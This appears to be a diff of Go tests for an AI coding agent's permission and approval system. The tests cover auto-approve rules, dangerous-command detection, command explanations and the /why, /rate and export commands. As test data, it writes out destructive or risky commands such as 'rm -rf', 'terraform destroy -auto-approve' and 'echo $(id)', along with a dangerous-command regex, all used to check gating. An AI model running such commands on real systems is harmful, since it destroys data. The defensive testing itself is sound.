+		t.Fatalf("declined rerun must not write the file, stat err=%v", err)
+	}
+	if approvals != 1 {
+		t.Fatalf("only the mutating rerun should ask for approval, got %d prompts", approvals)
+	}
+	if len(orch.Messages()) != before {
+		t.Fatalf("/rerun must not change the conversation: %d -> %d messages", before, len(orch.Messages()))
 	}
 }
 
-func TestRecoverToolCallsFromContent_TaggedFunction(t *testing.T) {
-	content := "I will run a command.\n<tool_call>\n<function=bash>\n<parameter=command>\nuname\n</parameter>\n</function>\n</tool_call>"
-	defs := []chat.ToolDef{
-		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+func TestGateToolCallAutoApprovesMatchingRule(t *testing.T) {
+	root := t.TempDir()
+	ws, err := security.NewWorkspace(root)
+	if err != nil {
+		t.Fatal(err)
 	}
-	calls, cleaned := recoverToolCallsFromContent(content, defs)
-	if len(calls) != 1 {
-		t.Fatalf("recovered calls=%d, want 1", len(calls))
+	writeCall := func(id, path string) chat.ToolCall {
+		return chat.ToolCall{ID: id, Type: "function", Function: chat.ToolCallFunction{
+			Name: "write", Arguments: fmt.Sprintf(`{"path":%q,"content":"x"}`, path),
+		}}
 	}
-	if calls[0].Function.Name != "bash" {
-		t.Fatalf("unexpected tool name: %+v", calls[0])
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{writeCall("call_tmp", "tmp/scratch.txt"), writeCall("call_src", "src/main.txt")}},
+			{Content: "done"},
+		},
 	}
-	if calls[0].Function.Arguments != `{"command":"uname"}` {
-		t.Fatalf("unexpected args: %s", calls[0].Function.Arguments)
+	var asked []string
+	orch := New(prov, tools.NewRegistry(tools.NewWriteTool(ws)), Options{
+		WorkspaceRoot:    root,
+		Policy:           permission.New(config.PermissionConfig{Default: "ask", Write: "ask"}),
+		AutoApproveRules: []config.AutoApproveRule{{Tool: "write", PathGlob: "tmp/**"}},
+		OnApproval: func(_ context.Context, req tools.ApprovalRequest) (bool, error) {
+			asked = append(asked, req.RawArgs)
+			return false, nil
+		},
+	})
+	if _, err := orch.RunTurn(context.Background(), "write two files", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	if strings.Contains(cleaned, "<tool_call>") {
-		t.Fatalf("expected cleaned content without tool_call block, got %q", cleaned)
+	if _, err := os.Stat(filepath.Join(root, "tmp", "scratch.txt")); err != nil {
+		t.Fatalf("write under tmp/ should be auto-approved: %v", err)
+	}
+	if len(asked) != 1 || !strings.Contains(asked[0], "src/main.txt") {
+		t.Fatalf("only the non-matching write should reach the approval callback, got %v", asked)
+	}
+	if _, err := os.Stat(filepath.Join(root, "src", "main.txt")); !os.IsNotExist(err) {
+		t.Fatalf("declined write must not create the file, stat err=%v", err)
 	}
 }
 
-func TestRecoverToolCallsFromContent_BareTaggedFunction(t *testing.T) {
-	content := "I'll help you install Python.\n<function=bash>\n<parameter=command>\nuname -s\n</parameter>\n</function>\n</tool_call>"
-	defs := []chat.ToolDef{
-		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+func TestApprovalClassificationIgnoresReasonTemplate(t *testing.T) {
+	root := t.TempDir()
+	ws, err := security.NewWorkspace(root)
+	if err != nil {
+		t.Fatalf("NewWorkspace: %v", err)
 	}
-	calls, cleaned := recoverToolCallsFromContent(content, defs)
-	if len(calls) != 1 {
-		t.Fatalf("recovered calls=%d, want 1", len(calls))
+	bashArgs, _ := json.Marshal(map[string]string{"command": "echo $(id)"})
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{
+				{ID: "call_write", Type: "function", Function: chat.ToolCallFunction{Name: "write", Arguments: `{"path":"a.txt","content":"x"}`}},
+				{ID: "call_bash", Type: "function", Function: chat.ToolCallFunction{Name: "bash", Arguments: string(bashArgs)}},
+			}},
+			{Content: "done"},
+		},
 	}
-	if calls[0].Function.Name != "bash" {
-		t.Fatalf("unexpected tool name: %+v", calls[0])
+	got := map[string]tools.ApprovalRequest{}
+	orch := New(prov, tools.NewRegistry(tools.NewWriteTool(ws), tools.NewBashTool(root, 2000, 1<<20, nil)), Options{
+		WorkspaceRoot: root,
+		Policy:        permission.New(config.PermissionConfig{Default: "ask", Write: "ask", Bash: map[string]string{"*": "allow"}}),
+		// 模板本身含有 "dangerous"，分类不应受影响。
+		// The template itself says "dangerous"; classification must not change.
+		ApprovalReasonTemplate: "dangerous overwrite? {tool}",
+		ActiveAgent:            agent.Profile{Name: "tester", ToolEnabled: map[string]bool{"write": true, "bash": true}},
+		OnApproval: func(_ context.Context, req tools.ApprovalRequest) (bool, error) {
+			got[req.Tool] = req
+			return false, nil
+		},
+	})
+	if _, err := orch.RunTurn(context.Background(), "write and run", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	if calls[0].Function.Arguments != `{"command":"uname -s"}` {
-		t.Fatalf("unexpected args: %s", calls[0].Function.Arguments)
+	if w := got["write"]; w.Dangerous || !w.PolicyAsk || w.Reason != "dangerous overwrite? write" {
+		t.Fatalf("policy ask write should not be dangerous: %+v", w)
 	}
-	if strings.Contains(cleaned, "<function=bash>") {
-		t.Fatalf("expected cleaned content without function block, got %q", cleaned)
+	if b := got["bash"]; !b.Dangerous || b.PolicyAsk {
+		t.Fatalf("command substitution should be a dangerous tool-level approval: %+v", b)
 	}
 }
 
-func TestRecoverToolCallsFromContent_JSONStyle(t *testing.T) {
-	content := "<tool_call>{\"name\":\"bash\",\"arguments\":{\"command\":\"uname -a\"}}</tool_call>"
-	defs := []chat.ToolDef{
-		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+// recordingBash 复用 BashTool 的审批逻辑，但只记录命令而不执行。
+// recordingBash reuses BashTool's approval logic but records commands instead of running them.
+type recordingBash struct {
+	*tools.BashTool
+	ran []string
+}
+
+func (b *recordingBash) Execute(_ context.Context, args json.RawMessage) (string, error) {
+	var in struct {
+		Command string `json:"command"`
 	}
-	calls, cleaned := recoverToolCallsFromContent(content, defs)
-	if len(calls) != 1 {
-		t.Fatalf("recovered calls=%d, want 1", len(calls))
+	_ = json.Unmarshal(args, &in)
+	b.ran = append(b.ran, in.Command)
+	return `{"ok":true,"exit_code":0}`, nil
+}
+
+func TestDangerousCommandPatternsBypassAutoApproveRules(t *testing.T) {
+	bashCall := func(id, command string) chat.ToolCall {
+		args, _ := json.Marshal(map[string]string{"command": command})
+		return chat.ToolCall{ID: id, Type: "function", Function: chat.ToolCallFunction{Name: "bash", Arguments: string(args)}}
 	}
-	if calls[0].Function.Name != "bash" {
-		t.Fatalf("unexpected tool name: %+v", calls[0])
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{bashCall("call_plan", "terraform plan"), bashCall("call_destroy", "terraform destroy -auto-approve")}},
+			{Content: "done"},
+		},
 	}
-	if calls[0].Function.Arguments != `{"command":"uname -a"}` {
-		t.Fatalf("unexpected args: %s", calls[0].Function.Arguments)
+	bash := &recordingBash{BashTool: tools.NewBashTool(t.TempDir(), 2000, 1<<20, nil).
+		WithDangerousPatterns([]*regexp.Regexp{regexp.MustCompile(`terraform\s+destroy`)})}
+	var asked []string
+	orch := New(prov, tools.NewRegistry(bash), Options{
+		Policy:           permission.New(config.PermissionConfig{Default: "ask", Bash: map[string]string{"*": "ask"}}),
+		AutoApproveRules: []config.AutoApproveRule{{Tool: "bash", Commands: []string{"terraform"}}},
+		ActiveAgent:      agent.Profile{Name: "build", ToolEnabled: map[string]bool{"bash": true}},
+		OnApproval: func(_ context.Context, req tools.ApprovalRequest) (bool, error) {
+			asked = append(asked, req.Reason)
+			return false, nil
+		},
+	})
+	if _, err := orch.RunTurn(context.Background(), "run terraform", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	if cleaned != "" {
-		t.Fatalf("expected empty cleaned content, got %q", cleaned)
+	if len(bash.ran) != 1 || bash.ran[0] != "terraform plan" {
+		t.Fatalf("only the auto-approved command should run, ran=%v", bash.ran)
+	}
+	if len(asked) != 1 || !strings.Contains(asked[0], "high risk: command matches dangerous command pattern") {
+		t.Fatalf("dangerous command should reach approval as high risk, asked=%v", asked)
 	}
 }
 
-func TestChatWithRetryRecoversTaggedToolCalls(t *testing.T) {
+func TestExplainCommandsAddsExplanationToRiskyApprovals(t *testing.T) {
+	bashCall := func(id, command string) chat.ToolCall {
+		args, _ := json.Marshal(map[string]string{"command": command})
+		return chat.ToolCall{ID: id, Type: "function", Function: chat.ToolCallFunction{Name: "bash", Arguments: string(args)}}
+	}
 	prov := &scriptedProvider{
 		model: "demo-model",
 		responses: []provider.ChatResponse{
-			{
-				Content: "<tool_call><function=bash><parameter=command>uname</parameter></function></tool_call>",
-			},
+			{ToolCalls: []chat.ToolCall{
+				bashCall("call_ls", "ls"),
+				bashCall("call_rm", "rm -rf build"),
+				bashCall("call_rm_again", "rm -rf build"),
+				bashCall("call_rm_spaced", "rm  -rf   build"),
+			}},
+			{Content: "Recursively deletes the build directory and everything in it.\nExtra detail."},
+			{Content: "Deletes build recursively."},
+			{Content: "done"},
 		},
 	}
-	orch := New(prov, tools.NewRegistry(), Options{})
-	defs := []chat.ToolDef{
-		{Type: "function", Function: chat.ToolFunction{Name: "bash", Parameters: map[string]any{"type": "object"}}},
+	bash := &recordingBash{BashTool: tools.NewBashTool(t.TempDir(), 2000, 1<<20, nil)}
+	var asked []string
+	orch := New(prov, tools.NewRegistry(bash), Options{
+		Policy:          permission.New(config.PermissionConfig{Default: "ask", Bash: map[string]string{"*": "ask"}}),
+		ActiveAgent:     agent.Profile{Name: "tester", ToolEnabled: map[string]bool{"bash": true}},
+		ExplainCommands: true,
+		OnApproval: func(_ context.Context, req tools.ApprovalRequest) (bool, error) {
+			asked = append(asked, req.Reason)
+			return true, nil
+		},
+	})
+	if _, err := orch.RunTurn(context.Background(), "clean up", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	resp, err := orch.chatWithRetry(context.Background(), nil, defs, nil, nil)
-	if err != nil {
-		t.Fatalf("chatWithRetry failed: %v", err)
+	if len(asked) != 4 {
+		t.Fatalf("expected four approvals, got %v", asked)
 	}
-	if len(resp.ToolCalls) != 1 {
-		t.Fatalf("expected recovered tool call, got %d", len(resp.ToolCalls))
+	if strings.Contains(asked[0], "Explanation") {
+		t.Fatalf("low risk command should not be explained, got %q", asked[0])
 	}
-	if resp.ToolCalls[0].Function.Name != "bash" {
-		t.Fatalf("unexpected tool call: %+v", resp.ToolCalls[0])
+	want := "\nExplanation (model-generated, may be inaccurate): Recursively deletes the build directory and everything in it."
+	for _, reason := range asked[1:3] {
+		if !strings.HasSuffix(reason, want) {
+			t.Fatalf("risky command approval should end with %q, got %q", want, reason)
+		}
+	}
+	if !strings.HasSuffix(asked[3], "may be inaccurate): Deletes build recursively.") {
+		t.Fatalf("a differently spaced command should get its own explanation, got %q", asked[3])
+	}
+	if prov.callCount != 4 {
+		t.Fatalf("explanation should be requested once per raw command text, provider calls=%d", prov.callCount)
+	}
+	if spacedReq := prov.requests[2]; spacedReq.Messages[len(spacedReq.Messages)-1].Content != "rm  -rf   build" {
+		t.Fatalf("explanation should be asked for the raw command, got %+v", spacedReq.Messages)
+	}
+	if explainReq := prov.requests[1]; len(explainReq.Tools) != 0 || explainReq.Messages[len(explainReq.Messages)-1].Content != "rm -rf build" {
+		t.Fatalf("unexpected explanation request: %+v", explainReq)
 	}
 }
 
-func TestTodoStatusMarker(t *testing.T) {
-	if todoStatusMarker("completed") != "[x]" {
-		t.Fatalf("completed: %q", todoStatusMarker("completed"))
+func TestRunInputWhyExplainsPermissionDecision(t *testing.T) {
+	root := t.TempDir()
+	newOrch := func(bash map[string]string) *Orchestrator {
+		return New(nil, tools.NewRegistry(tools.NewBashTool(root, 2000, 1<<20, nil)), Options{
+			Policy: permission.New(config.PermissionConfig{Default: "ask", Bash: bash}),
+			// 非 build/plan 的代理名不会套用模式预设，保留测试给定的 bash 规则。
+			// A non build/plan agent name skips the mode preset, keeping the test's bash rules.
+			ActiveAgent: agent.Profile{Name: "tester", ToolEnabled: map[string]bool{"bash": true}},
+		})
 	}
-	if todoStatusMarker("in_progress") != "[~]" {
-		t.Fatalf("in_progress: %q", todoStatusMarker("in_progress"))
+
+	got, err := newOrch(map[string]string{"*": "ask", "rm *": "deny"}).RunInput(context.Background(), `/why bash {"command":"rm -rf x"}`, nil)
+	if err != nil {
+		t.Fatalf("RunInput /why: %v", err)
 	}
-	if todoStatusMarker("pending") != "[ ]" {
-		t.Fatalf("pending: %q", todoStatusMarker("pending"))
+	for _, needle := range []string{`policy: deny (rule: permission.bash["rm *"]; reason: bash blocked by policy)`, "Result: deny"} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in output:\n%s", needle, got)
+		}
 	}
-}
 
-func TestContainsHan(t *testing.T) {
-	if !containsHan("中文") {
-		t.Fatal("expected true for 中文")
+	got, err = newOrch(map[string]string{"*": "allow"}).RunInput(context.Background(), `/why bash {"command":"rm -rf x"}`, nil)
+	if err != nil {
+		t.Fatalf("RunInput /why: %v", err)
 	}
-	if containsHan("ascii only") {
-		t.Fatal("expected false for ascii only")
+	for _, needle := range []string{
+		`policy: allow (rule: permission.bash["*"])`,
+		"tool check: approval required: matches dangerous command policy",
+		"risk: high (recursive/forced delete)",
+		"Result: ask",
+	} {
+		if !strings.Contains(got, needle) {
+			t.Fatalf("expected %q in output:\n%s", needle, got)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(root, "x")); !os.IsNotExist(err) {
+		t.Fatalf("/why must not execute anything, stat err=%v", err)
 	}
-}
 
-func TestSessionIDAccessors(t *testing.T) {
-	var sid string
-	orch := New(nil, tools.NewRegistry(), Options{
-		SessionIDRef: &sid,
+	// permission.tools 规则在启动套用 build 预设后仍然生效。
+	// permission.tools rules still apply after the build preset is applied at startup.
+	built := New(nil, tools.NewRegistry(), Options{
+		Policy: permission.New(config.PermissionConfig{Default: "ask", Tools: map[string]string{"fetch": "deny"}}),
 	})
+	got, err = built.RunInput(context.Background(), "/why fetch", nil)
+	if err != nil {
+		t.Fatalf("RunInput /why: %v", err)
+	}
+	if !strings.Contains(got, `policy: deny (rule: permission.tools["fetch"]`) {
+		t.Fatalf("permission.tools rule should survive the build preset:\n%s", got)
+	}
+}
 
-	if got := orch.GetCurrentSessionID(); got != "" {
-		t.Fatalf("expected empty session id, got %q", got)
+func TestRunInputExportJSONLWritesFineTuneExamples(t *testing.T) {
+	root := t.TempDir()
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{Reasoning: "need to look", ToolCalls: []chat.ToolCall{{ID: "call_1", Type: "function", Function: chat.ToolCallFunction{
+				Name: "mock_tool", Arguments: `{"q":"x"}`,
+			}}}},
+			{Content: "all done"},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(mockTool{name: "mock_tool", result: `{"ok":true,"answer":42}`}), Options{WorkspaceRoot: root})
+	if _, err := orch.RunTurn(context.Background(), "use the tool", nil); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
 
-	orch.SetCurrentSessionID("sess_1")
-	if sid != "sess_1" {
-		t.Fatalf("sessionIDRef not updated, got %q", sid)
+	got, err := orch.RunInput(context.Background(), "/export-jsonl out/train.jsonl", nil)
+	if err != nil || !strings.Contains(got, "Exported 2 example(s)") {
+		t.Fatalf("/export-jsonl output=%q err=%v", got, err)
 	}
-	if got := orch.GetCurrentSessionID(); got != "sess_1" {
-		t.Fatalf("GetCurrentSessionID=%q", got)
+	data, err := os.ReadFile(filepath.Join(root, "out", "train.jsonl"))
+	if err != nil {
+		t.Fatalf("read export: %v", err)
+	}
+	if strings.Contains(string(data), "need to look") {
+		t.Fatalf("reasoning must be stripped: %s", data)
+	}
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	if len(lines) != 2 {
+		t.Fatalf("expected one line per assistant turn, got %d", len(lines))
+	}
+	var last struct {
+		Messages []struct {
+			Role       string          `json:"role"`
+			Content    string          `json:"content"`
+			ToolCalls  []chat.ToolCall `json:"tool_calls"`
+			ToolCallID string          `json:"tool_call_id"`
+		} `json:"messages"`
+	}
+	if err := json.Unmarshal([]byte(lines[1]), &last); err != nil {
+		t.Fatalf("export line is not valid JSON: %v", err)
+	}
+	roles := make([]string, 0, len(last.Messages))
+	for _, m := range last.Messages {
+		roles = append(roles, m.Role)
+	}
+	if strings.Join(roles, ",") != "user,assistant,tool,assistant" {
+		t.Fatalf("unexpected message roles %v", roles)
+	}
+	call, result := last.Messages[1], last.Messages[2]
+	if len(call.ToolCalls) != 1 || call.ToolCalls[0].ID != "call_1" || call.ToolCalls[0].Function.Arguments != `{"q":"x"}` {
+		t.Fatalf("tool call not serialized: %+v", call)
+	}
+	if result.ToolCallID != "call_1" || result.Content == "" {
+		t.Fatalf("tool result not paired with its call: %+v", result)
+	}
+	if last.Messages[3].Content != "all done" {
+		t.Fatalf("final assistant message = %+v", last.Messages[3])
 	}
 
-	// nil ref should be safe no-op
-	orch2 := New(nil, tools.NewRegistry(), Options{})
-	orch2.SetCurrentSessionID("ignored")
-	if got := orch2.GetCurrentSessionID(); got != "" {
-		t.Fatalf("expected empty session id when ref nil, got %q", got)
+	if got, _ := orch.RunInput(context.Background(), "/export-jsonl ../escape.jsonl", nil); !strings.Contains(got, "outside the workspace") {
+		t.Fatalf("export outside the workspace should be refused: %q", got)
 	}
 }
 
-func TestModeAccessors(t *testing.T) {
-	orch := New(nil, tools.NewRegistry(), Options{})
-
-	if got := orch.CurrentMode(); got != "build" {
-		t.Fatalf("default mode=%q", got)
+func TestRunInputRateTagsLatestTurnAndExportsRating(t *testing.T) {
+	root := t.TempDir()
+	store, err := storage.NewSQLiteStore(filepath.Join(t.TempDir(), "test.db"))
+	if err != nil {
+		t.Fatalf("new sqlite store: %v", err)
 	}
-
-	orch.SetMode("PLAN")
-	if got := orch.CurrentMode(); got != "plan" {
-		t.Fatalf("after SetMode(plan) got %q", got)
+	defer store.Close()
+	if err := store.CreateSession(storage.SessionMeta{ID: "sess_rate", Agent: "build", Model: "m1"}); err != nil {
+		t.Fatalf("create session: %v", err)
 	}
+	current := "sess_rate"
+	prov := &scriptedProvider{responses: []provider.ChatResponse{{Content: "first"}, {Content: "second"}}}
+	orch := New(prov, tools.NewRegistry(), Options{WorkspaceRoot: root, Store: store, SessionIDRef: &current})
 
-	orch.SetMode("  build ")
-	if got := orch.CurrentMode(); got != "build" {
-		t.Fatalf("after SetMode(build) got %q", got)
+	if got, _ := orch.RunInput(context.Background(), "/rate good", nil); !strings.Contains(got, "Nothing to rate yet") {
+		t.Fatalf("/rate before any turn = %q", got)
+	}
+	for _, input := range []string{"one", "two"} {
+		if _, err := orch.RunTurn(context.Background(), input, nil); err != nil {
+			t.Fatalf("RunTurn %q: %v", input, err)
+		}
+	}
+	if got, _ := orch.RunInput(context.Background(), "/rate meh", nil); !strings.Contains(got, "Usage: /rate") {
+		t.Fatalf("/rate with a bad verdict = %q", got)
+	}
+	if got, _ := orch.RunInput(context.Background(), "/rate bad missed the edge case", nil); got != "Rated turn 2 as bad." {
+		t.Fatalf("/rate output = %q", got)
+	}
+	ratings, err := store.LoadRatings("sess_rate")
+	if err != nil || len(ratings) != 1 || ratings[0].Turn != 2 || ratings[0].Note != "missed the edge case" {
+		t.Fatalf("stored ratings = %+v err=%v", ratings, err)
+	}
+	if got, _ := orch.RunInput(context.Background(), "/rate", nil); !strings.Contains(got, "turn 2: bad - missed the edge case") {
+		t.Fatalf("/rate listing = %q", got)
 	}
 
-	// invalid mode should be ignored and keep previous value
-	orch.SetMode("invalid-mode")
-	if got := orch.CurrentMode(); got != "build" {
-		t.Fatalf("invalid mode should not change value, got %q", got)
+	if got, _ := orch.RunInput(context.Background(), "/export-jsonl", nil); !strings.Contains(got, "Exported 2 example(s)") {
+		t.Fatalf("/export-jsonl output = %q", got)
+	}
+	data, err := os.ReadFile(filepath.Join(root, ".coder", "exports", "sess_rate.jsonl"))
+	if err != nil {
+		t.Fatalf("read export: %v", err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	if len(lines) != 2 || strings.Contains(lines[0], `"rating"`) {
+		t.Fatalf("only the rated turn should carry a rating: %s", data)
+	}
+	if !strings.Contains(lines[1], `"rating":{"turn":2,"rating":"bad","note":"missed the edge case"}`) {
+		t.Fatalf("rated line missing rating: %s", lines[1])
 	}
 }
 
-func TestSlashModeAndPermissionsSync(t *testing.T) {
-	pol := permission.New(config.PermissionConfig{
-		Default: "ask",
-		Bash:    map[string]string{"*": "ask"},
-	})
-	orch := New(nil, tools.NewRegistry(), Options{
-		Policy: pol,
-	})
-
-	got, err := orch.RunInput(context.Background(), "/mode plan", nil)
+func TestModeSwitchesArePersistedToSession(t *testing.T) {
+	store, err := storage.NewSQLiteStore(filepath.Join(t.TempDir(), "test.db"))
 	if err != nil {
-		t.Fatalf("mode plan failed: %v", err)
+		t.Fatalf("new sqlite store: %v", err)
+	}
+	defer store.Close()
+	if err := store.CreateSession(storage.SessionMeta{ID: "sess_mode", Agent: "build", Model: "m1"}); err != nil {
+		t.Fatalf("create session: %v", err)
+	}
+	current := "sess_mode"
+	orch := New(&scriptedProvider{}, tools.NewRegistry(), Options{
+		WorkspaceRoot: t.TempDir(),
+		Store:         store,
+		SessionIDRef:  &current,
+		Policy:        permission.New(config.PermissionConfig{}),
+	})
+	storedAgent := func() string {
+		t.Helper()
+		meta, err := store.LoadSession(current)
+		if err != nil {
+			t.Fatalf("load session: %v", err)
+		}
+		return meta.Agent
 	}
-	if !strings.Contains(got, "Mode set to plan") {
-		t.Fatalf("unexpected /mode output: %q", got)
+
+	// REPL 的 Tab 切换直接调用 SetMode。/ The REPL's Tab toggle calls SetMode directly.
+	orch.SetMode("plan")
+	if got := storedAgent(); got != "plan" {
+		t.Fatalf("Tab mode switch should be persisted, got %q", got)
 	}
-	if orch.ActiveAgent().Name != "plan" {
-		t.Fatalf("active agent=%q, want plan", orch.ActiveAgent().Name)
+	if _, err := orch.RunInput(context.Background(), "/permissions build", nil); err != nil {
+		t.Fatalf("/permissions build: %v", err)
 	}
-	if decision := orch.policy.Decide("bash", json.RawMessage(`{"command":"git add ."}`)).Decision; decision != permission.DecisionAsk {
-		t.Fatalf("plan preset should require approval for non-whitelisted bash command, got %s", decision)
+	if got := storedAgent(); got != "build" {
+		t.Fatalf("/permissions preset switch should be persisted, got %q", got)
 	}
+}
 
-	got, err = orch.RunInput(context.Background(), "/permissions build", nil)
+func TestRateKeepsTurnIDsAcrossSyntheticMessagesAndCompaction(t *testing.T) {
+	root := t.TempDir()
+	store, err := storage.NewSQLiteStore(filepath.Join(t.TempDir(), "test.db"))
 	if err != nil {
-		t.Fatalf("permissions build failed: %v", err)
+		t.Fatalf("new sqlite store: %v", err)
 	}
-	if !strings.Contains(got, "Permissions set to preset: build") {
-		t.Fatalf("unexpected /permissions output: %q", got)
+	defer store.Close()
+	if err := store.CreateSession(storage.SessionMeta{ID: "sess_turns", Agent: "build", Model: "m1"}); err != nil {
+		t.Fatalf("create session: %v", err)
 	}
-	if orch.CurrentMode() != "build" {
-		t.Fatalf("mode=%q, want build", orch.CurrentMode())
+	current := "sess_turns"
+	responses := make([]provider.ChatResponse, 0, 5)
+	for i := 1; i <= 5; i++ {
+		responses = append(responses, provider.ChatResponse{Content: fmt.Sprintf("answer %d", i)})
 	}
-	if orch.ActiveAgent().Name != "build" {
-		t.Fatalf("active agent=%q, want build", orch.ActiveAgent().Name)
+	prov := &scriptedProvider{responses: responses}
+	opts := Options{
+		WorkspaceRoot: root,
+		Store:         store,
+		SessionIDRef:  &current,
+		Compaction:    config.CompactionConfig{Auto: false, RecentMessages: 4},
 	}
-}
+	orch := New(prov, tools.NewRegistry(), opts)
 
-func TestModeControlsTodoWriteAvailability(t *testing.T) {
-	orch := New(nil, tools.NewRegistry(), Options{})
-	if orch.CurrentMode() != "build" {
-		t.Fatalf("mode=%q", orch.CurrentMode())
+	if _, err := orch.RunTurn(context.Background(), "one", nil); err != nil {
+		t.Fatalf("RunTurn one: %v", err)
 	}
-	if orch.isToolAllowed("todowrite") {
-		t.Fatal("build mode should disable todowrite")
+	// "!" 追加一条合成用户消息，但不是新回合。/ A bare "!" appends a synthetic user message but is not a new turn.
+	if _, err := orch.RunInput(context.Background(), "!", nil); err != nil {
+		t.Fatalf("bang: %v", err)
 	}
-	orch.SetMode("plan")
-	if !orch.isToolAllowed("todowrite") {
-		t.Fatal("plan mode should allow todowrite")
+	if got, _ := orch.RunInput(context.Background(), "/rate good", nil); got != "Rated turn 1 as good." {
+		t.Fatalf("/rate after a bang command = %q", got)
+	}
+	for _, input := range []string{"two", "three", "four"} {
+		if _, err := orch.RunTurn(context.Background(), input, nil); err != nil {
+			t.Fatalf("RunTurn %q: %v", input, err)
+		}
+	}
+	if !orch.CompactNow() {
+		t.Fatal("expected compaction to drop older messages")
+	}
+	if got, _ := orch.RunInput(context.Background(), "/rate bad", nil); got != "Rated turn 4 as bad." {
+		t.Fatalf("/rate after compaction = %q", got)
+	}
+	if got, _ := orch.RunInput(context.Background(), "/export-jsonl", nil); !strings.Contains(got, "Exported") {
+		t.Fatalf("/export-jsonl output = %q", got)
+	}
+	data, err := os.ReadFile(filepath.Join(root, ".coder", "exports", "sess_turns.jsonl"))
+	if err != nil {
+		t.Fatalf("read export: %v", err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	last := lines[len(lines)-1]
+	if !strings.Contains(last, "answer 4") || !strings.Contains(last, `"rating":{"turn":4,"rating":"bad"}`) {
+		t.Fatalf("latest line should carry turn 4's rating: %s", last)
+	}
+	for _, line := range lines[:len(lines)-1] {
+		if strings.Contains(line, `"turn":4`) {
+			t.Fatalf("earlier lines must not take turn 4's rating: %s", line)
+		}
 	}
-}
 
-func TestPickVerifyCommandRespectsWorkflowOverride(t *testing.T) {
-	orch := New(nil, tools.NewRegistry(), Options{
-		Workflow: config.WorkflowConfig{
-			VerifyCommands: []string{"  npm test  ", ""},
-		},
-	})
-	got := orch.pickVerifyCommand()
-	if got != "npm test" {
-		t.Fatalf("expected workflow override \"npm test\", got %q", got)
+	// 恢复会话后回合 id 从存储的消息继续递增。/ After resuming, turn ids continue from the stored messages.
+	msgs, err := store.LoadMessages(current)
+	if err != nil {
+		t.Fatalf("load messages: %v", err)
+	}
+	resumed := New(prov, tools.NewRegistry(), opts)
+	resumed.LoadMessages(msgs)
+	if _, err := resumed.RunTurn(context.Background(), "five", nil); err != nil {
+		t.Fatalf("RunTurn five: %v", err)
+	}
+	if got, _ := resumed.RunInput(context.Background(), "/rate good", nil); got != "Rated turn 5 as good." {
+		t.Fatalf("/rate after resume = %q", got)
 	}
 }
 
-func TestPickVerifyCommandAutoDetectsByFiles(t *testing.T) {
-	// go.mod -> go test ./...
-	goDir := t.TempDir()
-	if err := os.WriteFile(filepath.Join(goDir, "go.mod"), []byte("module demo\n"), 0o644); err != nil {
-		t.Fatalf("write go.mod: %v", err)
+func TestRunTurnQuietModeHidesToolOutput(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	root := t.TempDir()
+	current := "sess_quiet"
+	newProvider := func() *scriptedProvider {
+		return &scriptedProvider{
+			model: "demo-model",
+			responses: []provider.ChatResponse{
+				{Reasoning: "thinking hard", ToolCalls: []chat.ToolCall{{ID: "call_1", Type: "function", Function: chat.ToolCallFunction{
+					Name: "mock_tool", Arguments: `{}`,
+				}}}},
+				{Content: "the final answer"},
+			},
+		}
 	}
-	orchGo := New(nil, tools.NewRegistry(), Options{
-		WorkspaceRoot: goDir,
+	orch := New(newProvider(), tools.NewRegistry(mockTool{name: "mock_tool", result: `{"ok":true}`}), Options{
+		WorkspaceRoot: root,
+		SessionIDRef:  &current,
 	})
-	if got := orchGo.pickVerifyCommand(); got != "go test ./..." {
-		t.Fatalf("expected go test ./..., got %q", got)
+	if got, _ := orch.RunInput(context.Background(), "/quiet on", nil); !strings.Contains(got, "Quiet mode: on") {
+		t.Fatalf("/quiet on output = %q", got)
 	}
 
-	// pyproject.toml -> pytest
-	pyDir := t.TempDir()
-	if err := os.WriteFile(filepath.Join(pyDir, "pyproject.toml"), []byte("[tool.poetry]\n"), 0o644); err != nil {
-		t.Fatalf("write pyproject.toml: %v", err)
+	var out bytes.Buffer
+	if _, err := orch.RunTurn(context.Background(), "run the tool", &out); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
 	}
-	orchPy := New(nil, tools.NewRegistry(), Options{
-		WorkspaceRoot: pyDir,
-	})
-	if got := orchPy.pickVerifyCommand(); got != "pytest" {
-		t.Fatalf("expected pytest, got %q", got)
+	rendered := out.String()
+	if !strings.Contains(rendered, "the final answer") {
+		t.Fatalf("quiet output should still contain the answer: %q", rendered)
 	}
-
-	// package.json -> npm test -- --watch=false
-	jsDir := t.TempDir()
-	if err := os.WriteFile(filepath.Join(jsDir, "package.json"), []byte(`{"name":"demo"}`), 0o644); err != nil {
-		t.Fatalf("write package.json: %v", err)
+	for _, noise := range []string{"[TOOL]", "->", "[THINK]", "thinking hard"} {
+		if strings.Contains(rendered, noise) {
+			t.Fatalf("quiet output should not contain %q: %q", noise, rendered)
+		}
 	}
-	orchJS := New(nil, tools.NewRegistry(), Options{
-		WorkspaceRoot: jsDir,
-	})
-	if got := orchJS.pickVerifyCommand(); got != "npm test -- --watch=false" {
-		t.Fatalf("expected npm test -- --watch=false, got %q", got)
+	data, err := os.ReadFile(filepath.Join(root, ".coder", "sessions", current+".json"))
+	if err != nil {
